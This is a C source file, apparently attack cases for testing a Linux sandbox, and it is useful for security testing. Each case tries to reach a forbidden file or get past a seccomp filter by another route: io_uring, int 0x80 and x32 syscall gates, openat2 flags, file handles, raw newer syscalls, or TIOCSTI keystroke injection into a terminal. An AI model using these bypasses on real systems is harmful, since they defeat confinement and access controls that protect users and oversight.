// Other spellings of the same call (classes 1 to 8).
#include "attack.h"

// ring opens and reads through io_uring, which no filter sees.
static void ring(void)
{
	struct io_uring_params p = {0};
	int fd = syscall(SYS_io_uring_setup, 4, &p);
	if (fd < 0)
		return;
	char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
	struct io_uring_sqe *e = mmap(0, p.sq_entries * sizeof *e, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)e == MAP_FAILED)
		return;
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (uintptr_t) "closed/secret";
	*(unsigned *)(sq + p.sq_off.array) = 0;
	*(volatile unsigned *)(sq + p.sq_off.tail) += 1;
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) == 1)
		take(((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res);
}

// int80 and x32 call through gates of other architectures.
static void int80(void)
{
#ifdef __x86_64__
	char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd;
	strcpy(low, "closed/secret");
	__asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(low), "c"(0), "d"(0) : "memory");
	take(fd);
#endif
}
static void x32(void) { take(syscall(0x40000000 | SYS_openat, AT_FDCWD, "closed/secret", O_RDONLY)); }

static void spellings(void)
{
	struct open_how how = {0};
	take(syscall(SYS_open, "closed/secret", O_RDONLY));
	take(syscall(SYS_openat2, AT_FDCWD, "closed/secret", &how, sizeof how));
	syscall(SYS_creat, "fixed/file", 0644);
	int tree = syscall(SYS_open_tree, AT_FDCWD, "closed", 0);
	take(openat(tree, "secret", O_RDONLY));
	how.resolve = RESOLVE_IN_ROOT;
	take(syscall(SYS_openat2, open(".", O_PATH), "/closed/secret", &how, sizeof how));
	how.resolve = RESOLVE_BENEATH;
	take(syscall(SYS_openat2, open("closed", O_PATH), "secret", &how, sizeof how));
	how.resolve = RESOLVE_CACHED;
	take(syscall(SYS_openat2, AT_FDCWD, "closed/secret", &how, sizeof how));
}

static void handles(void)
{
	struct { struct file_handle h; char room[128]; } h = {.h.handle_bytes = 128};
	int mount;
	if (name_to_handle_at(AT_FDCWD, "closed/secret", &h.h, &mount, 0) == 0)
		take(open_by_handle_at(open(".", O_RDONLY | O_DIRECTORY), &h.h, O_RDONLY));
}

// newer calls by number: setxattrat, removexattrat, file_setattr, open_tree_attr.
static void newer(void)
{
	struct { uint64_t value; uint32_t size, flags; } x = {(uintptr_t) "v", 1, 0};
	uint64_t attr[3] = {0x80 /* noatime */, 0, 0};
	syscall(463, AT_FDCWD, "fixed/file", 0, "user.mark", &x, sizeof x);
	syscall(466, AT_FDCWD, "fixed/file", 0, "user.old", 0, 0);
	syscall(469, AT_FDCWD, "fixed/file", attr, sizeof attr, 0);
	take(openat(syscall(467, AT_FDCWD, "closed", 0, 0, 0), "secret", O_RDONLY));
	for (int n = 470; n < 500; n++)
		syscall(n, AT_FDCWD, "fixed/file", 0, 0, 0, 0);
}

// typing puts characters into a terminal as if the user had typed them.
static void typing(unsigned long garbage)
{
	char b[8] = {0};
	int pt = open("/dev/ptmx", O_RDWR | O_NOCTTY), unlock = 0, n = -1;
	setsid();
	if (pt < 0 || ioctl(pt, TIOCSPTLCK, &unlock) || ioctl(pt, TIOCGPTN, &n))
		return;
	int tty = open(in("/dev/pts/%d", n), O_RDWR | O_NOCTTY);
	if (tty < 0 || ioctl(tty, TIOCSCTTY, 0))
		return;
	for (const char *c = "x\n"; *c; c++)
		syscall(SYS_ioctl, tty, garbage | TIOCSTI, c);
	fcntl(tty, F_SETFL, O_NONBLOCK);
	if (read(tty, b, sizeof b) > 0)
		got("secret: typed");
}
static void sti(void) { typing(0); }
static void sti_garbage(void) { typing(0xdeadbeefUL << 32); }

static int filter(unsigned flags, unsigned verdict)
{
	struct sock_filter f[] = {{BPF_RET | BPF_K, 0, 0, verdict}};
	struct sock_fprog prog = {1, f};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

static void allow_filter(void)
{
	filter(0, SECCOMP_RET_ALLOW);
	prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, 0);
	grab("closed/secret");
	ring();
}

static void listener(void)
{
	if (filter(SECCOMP_FILTER_FLAG_NEW_LISTENER, SECCOMP_RET_ALLOW) >= 0)
		got("secret: a listener of its own");
}

const struct attack abi[] = {
	{"io_uring", ring}, {"int80", int80}, {"x32", x32}, {"open-spellings", spellings}, {"file-handles", handles}, {"newer-calls", newer},
	{"tiocsti", sti}, {"tiocsti-garbage", sti_garbage}, {"allow-filter", allow_filter}, {"listener", listener}, {0, 0},
};
